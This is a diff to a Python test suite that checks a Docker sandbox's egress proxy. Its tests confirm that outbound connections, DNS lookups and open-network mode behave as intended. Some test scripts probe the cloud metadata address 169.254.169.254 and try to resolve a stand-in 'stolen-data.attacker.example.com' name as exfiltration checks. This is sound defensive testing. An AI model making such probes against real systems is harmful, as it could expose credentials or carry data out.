@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
+import socket
 import threading
 import time
 import uuid
@@ -67,6 +69,16 @@ def egress(engine: Engine) -> Iterator[Egress]:
     yield Egress(engine, owner, Allowed(("pypi.org",)))
     remove_all(engine, owner)
     assert not networks(engine, f"heal.owner={owner}")
+
+
+def own_addresses() -> list[str]:
+    """The addresses by which this machine would speak to the world, where it has a route there."""
+    found = []
+    for family, far in ((socket.AF_INET, "198.51.100.1"), (socket.AF_INET6, "2001:db8::1")):
+        with socket.socket(family, socket.SOCK_DGRAM) as speaker, contextlib.suppress(OSError):
+            speaker.connect((far, 9))  # sends nothing
+            found.append(str(speaker.getsockname()[0]))
+    return found
 
 
 @pytest.fixture
@@ -149,10 +161,8 @@ def test_nothing_is_reached_past_the_proxy(sandbox: DockerSandbox, host_server: 
     """
     assert sandbox.egress is not None
     gate = sandbox.egress.gate()
-    bridge = engine.client().networks.get("bridge").attrs
     proxy = engine.client().containers.get(gate.container).attrs["NetworkSettings"]["Networks"]["bridge"]
-    host = [sandbox.egress.gateway(gate), str(proxy["Gateway"]), "192.0.2.2", "fd00::2"]
-    assert bridge["Name"] == "bridge"
+    host = [sandbox.egress.gateway(gate), str(proxy["Gateway"]), *own_addresses()]
     targets = [(address, host_server) for address in host]
     targets += [("1.1.1.1", 443), ("203.0.113.80", 443), ("169.254.169.254", 80), (str(proxy["IPAddress"]), 3128)]
     script = DIRECT + (
@@ -168,7 +178,7 @@ def test_names_do_not_resolve_inside(sandbox: DockerSandbox) -> None:
     """No name is looked up for set-up, so no name can carry anything out: neither listed hosts' nor made-up ones."""
     script = """
 import socket
-for name in ("pypi.org", "deb.debian.org", "stolen-data.attacker.example.com"):
+for name in ("pypi.org", "stolen-data.attacker.example.com"):
     try:
         print("RESOLVED", name, socket.getaddrinfo(name, 443))
     except socket.gaierror:
@@ -183,7 +193,7 @@ with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
         print("ANSWERS none")
 """
     log = look(sandbox, script)
-    assert log.count("UNKNOWN") == 3, log
+    assert log.count("UNKNOWN") == 2, log
     assert "ANSWERS none" in log or "ANSWERS b'\\x00\\x00'" in log
 
 
@@ -219,11 +229,18 @@ def test_private_addresses_need_the_operators_word(sandbox: DockerSandbox, engin
     made.engine.close()
 
 
-def test_open_network_only_when_asked_for(sandbox: DockerSandbox, engine: Engine) -> None:
-    """With `setup_network` "open" there is no proxy, and doctor says what that means."""
+def test_open_network_only_when_asked_for(sandbox: DockerSandbox, host_server: int) -> None:
+    """With `setup_network` "open" there is no proxy, the host's service answers, and doctor says what that means."""
     made = DockerSandbox(None, sandbox.owner, ca_bundle=CA_BUNDLE, state_dir=STATE, setup_network="open")
-    log = look(made, "import os; print('PROXY', os.environ.get('HTTPS_PROXY'))")
-    assert "PROXY None" in log
+    script = f"""
+import os
+from pathlib import Path
+routes = [line.split() for line in Path("/proc/net/route").read_text().splitlines()]
+gateway = next(bytes.fromhex(words[2])[::-1] for words in routes if words[1] == "00000000")
+print("PROXY", os.environ.get("HTTPS_PROXY"), "HOST", reaches(".".join(map(str, gateway)), {host_server}))
+"""
+    log = look(made, DIRECT + script)
+    assert "PROXY None HOST True" in log  # so the attacks above are real ones
     (finding,) = [finding for finding in made.doctor() if finding.what == "set-up network"]
     assert not finding.ok
     made.engine.close()
